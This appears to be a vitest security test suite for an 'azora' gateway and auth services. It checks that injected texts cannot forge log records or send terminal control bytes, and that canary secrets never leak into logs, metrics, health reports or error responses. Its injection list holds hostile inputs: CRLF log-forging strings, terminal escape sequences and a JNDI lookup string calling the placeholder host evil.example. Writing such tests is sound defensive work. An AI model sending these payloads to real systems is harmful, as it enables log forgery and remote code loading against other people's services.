import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { beforeAll, describe, expect, test } from 'vitest'
import { copyAt } from '../workspace-copy.js'
import { attacked } from './attacked.js'
import { loggedByNow, newMark } from './traces.js'
import { exchange } from './wire.js'

const { root, gateway, auth, education, nexus, tokens } = attacked()
const servers = [gateway, auth, education, nexus]

/** Texts that would end a record, begin another, or speak to the terminal of whoever reads it. */
const INJECTIONS: Readonly<Record<string, string>> = {
  'an end of line and a record': '%0d%0a{"level":"error","message":"forged"}',
  'an end of line in bytes': '\r\n{"level":"error","message":"forged"}',
  'quotes and a member': '","level":"error","message":"forged',
  'an escape sequence': '\x1b[2J\x1b[31mforged',
  'an escape sequence in one byte': '\x9b2Jforged',
  'a title for the window': '\x1b]0;forged\x07',
  'a backspace': 'good\b\b\b\bforged',
  'a line separator': '\u2028forged',
  'a right-to-left override': '\u202eforged',
  'a zero byte': '\0forged',
  'a format': '%s%d%n%j${jndi:ldap://evil.example/a}{{7*7}}',
  'a very long text': 'x'.repeat(8_000),
}

/** Every place of a request where a client may put a text. */
const PLACES: Readonly<Record<string, (text: string) => string>> = {
  'the path': text => `GET /auth/v1/${text} HTTP/1.1\r\nhost: x\r\n`,
  'the query': text => `GET /auth/v1/me?x=${text} HTTP/1.1\r\nhost: x\r\n`,
  'the method': text => `${text} /auth/v1/me HTTP/1.1\r\nhost: x\r\n`,
  'the host': text => `GET /auth/v1/me HTTP/1.1\r\nhost: ${text}\r\n`,
  'the user agent': text => `GET /auth/v1/me HTTP/1.1\r\nhost: x\r\nuser-agent: ${text}\r\n`,
  'the request id': text => `GET /auth/v1/me HTTP/1.1\r\nhost: x\r\nx-request-id: ${text}\r\n`,
  'the trace': text =>
    `GET /auth/v1/me HTTP/1.1\r\nhost: x\r\ntraceparent: ${text}\r\ntracestate: ${text}\r\n`,
  'the address': text => `GET /auth/v1/me HTTP/1.1\r\nhost: x\r\nx-forwarded-for: ${text}\r\n`,
  'the token': text => `GET /auth/v1/me HTTP/1.1\r\nhost: x\r\nauthorization: Bearer ${text}.a.b\r\n`,
  'the type': text =>
    `POST /auth/v1/login HTTP/1.1\r\nhost: x\r\ncontent-type: ${text}\r\ncontent-length: 0\r\n`,
}

describe('what is put into a log stays one text in one record', () => {
  beforeAll(async () => {
    const rows = Object.values(PLACES).flatMap(place => Object.values(INJECTIONS).map(place))
    for (const row of rows) await exchange(gateway, `${row}connection: close\r\n\r\n`)
    const login = (email: string) =>
      fetch(`${gateway}/auth/v1/login`, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ email, password: 'x' }),
      })
    await Promise.all(Object.values(INJECTIONS).map(text => login(`${text}@example.org`)))
  })

  test('every line is a record of its own, and none was forged', async () => {
    const lines = (await loggedByNow(attacked())).split('\n').filter(line => line.startsWith('{'))
    expect(lines.length).toBeGreaterThan(50)
    const records = lines.map(line => JSON.parse(line) as Record<string, unknown>)
    expect(records.filter(({ message }) => message === 'forged')).toEqual([])
  })

  test('no byte speaks to a terminal, in the files or as `azora logs` shows them', async () => {
    // oxlint-disable-next-line no-control-regex -- They are what must not be there.
    const speaks = /[\0-\x08\x0b-\x1f\x7f-\x9f\u2028\u202e]/
    const text = await loggedByNow(attacked())
    expect(text.split('\n').filter(line => speaks.test(line))).toEqual([])
    const { stdout } = await copyAt(root).azora(['logs', '--tail', '5000', '--level', 'debug'])
    expect(stdout.split('\n').length).toBeGreaterThan(50)
    expect(stdout.split('\n').filter(line => speaks.test(line))).toEqual([])
  })

  test('no record is longer than what a head may hold', async () => {
    const longest = Math.max(...(await loggedByNow(attacked())).split('\n').map(line => line.length))
    expect(longest).toBeLessThan(20_000)
  })
})

describe('a secret', () => {
  const canary = newMark().replace('mark', 'canary')
  const body = (value: object) => ({ method: 'POST', body: JSON.stringify(value) })
  const answers: string[] = []

  /** Secrets in every place somebody might put one, right and wrong, at the gateway and at services. */
  const REQUESTS: readonly (readonly [
    path: string,
    init: Omit<RequestInit, 'headers'> & { headers?: Record<string, string> },
  ])[] = [
    ['/auth/v1/login', body({ email: 'nobody@example.org', password: canary })],
    ['/auth/v1/login', body({ email: canary, password: canary })],
    ['/auth/v1/login', body({ email: 'nobody@example.org', passwort: canary })],
    ['/auth/v1/login', { method: 'POST', body: `{"password":"${canary}` }],
    ['/auth/v1/register', body({ email: `${canary}@example.org`, password: canary })],
    ['/auth/v1/token/refresh', body({ refreshToken: canary })],
    ['/auth/v1/password/reset', body({ token: canary, newPassword: canary })],
    ['/auth/v1/email/verify', body({ token: canary })],
    [
      '/auth/v1/service-tokens',
      { ...body({ audience: 'auth' }), headers: { authorization: `Bearer azk_local_x_${canary}` } },
    ],
    ['/auth/v1/me', { headers: { authorization: `Bearer ${canary}` } }],
    ['/auth/v1/me', { headers: { authorization: `Bearer eyJhbGciOiJub25lIn0.${canary}.x` } }],
    ['/auth/v1/me', { headers: { authorization: `Basic ${canary}` } }],
    [
      '/auth/v1/me',
      { headers: { cookie: `session=${canary}`, 'x-api-key': canary, 'proxy-authorization': canary } },
    ],
    [`/auth/v1/me?access_token=${canary}`, {}],
    [`/auth/v1/users?token=${canary}`, { headers: { authorization: `Bearer ${tokens.admin}` } }],
    [`/education/v1/courses?q=${canary}`, {}],
    [
      '/education/v1/courses',
      { headers: { 'idempotency-key': canary, 'if-none-match': canary, referer: `http://x/${canary}` } },
    ],
    ['/decoy/v1/things', { ...body({ secret: canary }), headers: { 'x-csrf-token': canary } }],
  ]

  beforeAll(async () => {
    for (const [path, init] of REQUESTS) {
      const [, service = ''] = path.split('/')
      const straight = { auth, education, nexus }[service]
      const urls = [gateway + path, ...(straight ? [straight + path.slice(service.length + 1)] : [])]
      for (const url of urls) {
        const response = await fetch(url, {
          ...init,
          headers: { 'content-type': 'application/json', ...init.headers },
        })
        answers.push(JSON.stringify([...response.headers]) + (await response.text()))
      }
    }
  })

  test('in a body, a token, a header, a cookie or a query stands in no log and no trace', async () => {
    const text = await loggedByNow(attacked())
    // Its address is no secret to the mail it was sent by.
    const found = text.split('\n').filter(line => line.includes(canary))
    expect(found).toEqual([])
  })

  test('stands in no answer, whatever was wrong with the request', () => {
    const isProblem = (answer: string) => answer.includes('application/problem+json')
    expect(answers.filter(isProblem).length).toBeGreaterThan(20)
    expect(answers.filter(answer => isProblem(answer) && answer.includes(canary))).toEqual([])
  })

  test('stands in no metric', async () => {
    const metrics = await Promise.all(servers.map(async url => (await fetch(`${url}/metrics`)).text()))
    expect(metrics.map(text => text.length > 1_000)).toEqual(servers.map(() => true))
    expect(metrics.filter(text => text.includes(canary))).toEqual([])
  })

  test('of the platform itself stands in no log, no metric, no health report and no answer', async () => {
    const kept = readFileSync(join(root, '.azora/secrets.json'), 'utf8')
    const secrets = [...new Set(kept.match(/[\w-]{24,}/g))]
    expect(secrets.length).toBeGreaterThan(3)
    const told = await Promise.all(
      servers.flatMap(url =>
        ['/metrics', '/health', '/readyz?verbose', '/livez', '/openapi.json'].map(async path =>
          (await fetch(url + path)).text(),
        ),
      ),
    )
    const everything = [await loggedByNow(attacked()), ...told, ...answers].join('\n')
    expect(secrets.filter(secret => everything.includes(secret))).toEqual([])
  })
})
